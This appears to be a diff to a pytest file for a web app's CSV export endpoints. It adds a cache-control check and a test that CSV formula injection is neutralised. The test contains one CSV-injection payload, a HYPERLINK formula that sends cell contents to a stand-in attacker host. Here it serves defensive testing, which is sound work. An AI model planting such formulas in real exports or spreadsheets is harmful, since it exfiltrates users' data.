@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
+from urllib.parse import quote
 
 import pytest
 from starlette.testclient import TestClient
@@ -27,6 +28,7 @@ def _rows(client: TestClient, path: str) -> list[dict[str, str]]:
     assert response.status_code == 200, response.text
     assert response.headers["content-type"] == "text/csv; charset=utf-8"
     assert response.headers["content-disposition"].startswith('attachment; filename="')
+    assert response.headers["cache-control"] == "no-store"
     assert "omega" not in response.text
     return list(csv.DictReader(io.StringIO(response.text)))
 
@@ -89,3 +91,19 @@ def test_cancelled_downloads_give_their_export_slot_back(
         assert visit.body.count(b"\r\n") < ROWS, "the client left before the end"
     assert ctx.exports.running == 0
     assert len(_rows(signed_in, "/dashboard/export/events.csv")) == ROWS
+
+
+def test_downloads_neutralise_formulas(seeded: TestClient, api_key: str) -> None:
+    formula = '=HYPERLINK("https://evil.example/?"&A1,"click")'
+    event = {
+        "type": formula,
+        "entityType": "message",
+        "messageId": "m-x",
+        "properties": {"n": formula},
+    }
+    headers = {"Authorization": f"Bearer {api_key}"}
+    assert seeded.post("/events", json=event, headers=headers).status_code == 200
+    rows = _rows(seeded, "/dashboard/export/events.csv?type=" + quote(formula))
+    assert [(row["type"], row["properties.n"]) for row in rows] == [("'" + formula, "'" + formula)]
+    counts = _rows(seeded, "/dashboard/export/event-types.csv")
+    assert {"type": "'" + formula, "count": "1"} in counts
